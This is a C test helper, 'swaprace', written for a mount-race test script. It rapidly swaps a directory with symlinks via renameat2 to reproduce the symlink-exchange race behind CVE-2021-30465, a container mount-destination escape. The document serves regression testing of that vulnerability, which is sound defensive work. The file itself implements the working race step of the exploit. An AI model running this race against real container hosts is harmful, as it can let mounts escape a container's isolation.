/* A test tool for mount-race.sh (the symlink-exchange attack on mount
   destinations, CVE-2021-30465), linked statically so that it runs in the
   busybox root:
     swaprace DIR SECONDS MAX LINK...
   swaps DIR with each LINK in turn and back (renameat2 RENAME_EXCHANGE, so
   DIR always exists, as a directory or as the symlink), until SECONDS have
   passed, MAX swaps were made or DIR/../stop exists, then prints the number
   of swaps. "ready" in DIR's parent says that it has started. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double
now (void)
{
  struct timespec ts;

  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int
swap (const char *a, const char *b)
{
  if (renameat2 (AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
    {
      perror ("swaprace: renameat2");
      return -1;
    }
  return 0;
}

int
main (int argc, char **argv)
{
  struct timespec pause = { 0, 1000 * 1000 };
  double deadline;
  unsigned long max, n;
  char *dir, *parent, stop[4096], ready[4096];
  int i = 4, fd;

  if (argc < 5)
    {
      fprintf (stderr, "usage: swaprace DIR SECONDS MAX LINK...\n");
      return 2;
    }
  dir = argv[1];
  deadline = now () + atof (argv[2]);
  max = strtoul (argv[3], NULL, 10);
  parent = strdup (dir);
  *strrchr (parent, '/') = '\0';
  snprintf (stop, sizeof stop, "%s/stop", parent);
  snprintf (ready, sizeof ready, "%s/ready", parent);
  fd = open (ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0)
    {
      perror ("swaprace: ready");
      return 1;
    }
  close (fd);
  for (n = 0; n < max; n++)
    {
      /* DIR becomes the symlink, then the directory again, then the next symlink. */
      if (swap (dir, argv[i]) < 0)
        return 1;
      if (n % 2 == 1)
        i = i + 1 < argc ? i + 1 : 4;
      /* A pause now and then, in either state (127 is odd), leaves a share of
         the CPU to the other tests of a busy machine. */
      if (n % 127 == 126)
        nanosleep (&pause, NULL);
      if (n % 1024 == 1023 && (now () > deadline || access (stop, F_OK) == 0))
        break;
    }
  printf ("%lu\n", n);
  return 0;
}
